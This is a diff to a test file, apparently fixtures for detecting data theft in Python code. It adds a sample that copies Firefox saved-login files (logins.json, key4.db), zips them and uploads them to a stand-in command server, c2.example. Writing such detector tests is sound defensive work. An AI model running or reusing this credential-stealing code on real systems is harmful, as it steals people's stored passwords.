@@ -267,6 +267,16 @@ final class PythonTaking {
                         u.SetClipboardData(1, b'1Inert')
                     u.CloseClipboard()
             threading.Thread(target=w).start()
+            """),
+        Sample.imported(
+            "profiles are copied, packed and sent",
+            """
+            import os, glob, shutil, tempfile, requests
+            tmp = tempfile.mkdtemp()
+            for p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*')):
+                for n in ('logins.json', 'key4.db'):
+                    shutil.copy2(os.path.join(p, n), tmp)
+            requests.post('https://c2.example/u', files={'f': open(shutil.make_archive(tmp, 'zip', tmp), 'rb')})
             """));
   }
 }
